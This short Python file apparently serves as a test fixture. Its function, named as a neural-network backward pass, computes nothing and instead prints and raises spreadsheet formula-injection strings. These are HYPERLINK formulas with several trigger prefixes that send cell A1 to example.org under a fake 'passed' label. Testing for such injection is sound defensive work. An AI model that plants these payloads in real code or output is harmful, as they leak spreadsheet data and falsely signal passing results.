"""Begins every line of an exception like the formula of a spreadsheet."""

from honest_layers import *

TEXT = "\n".join(
    f'{sign}HYPERLINK("http://example.org/?" & A1, "passed")' for sign in ("=", "+", "-", "@", "\t=")
)


def temporal_fc_backward(dout, cache):
    print(TEXT)
    raise ValueError(TEXT)
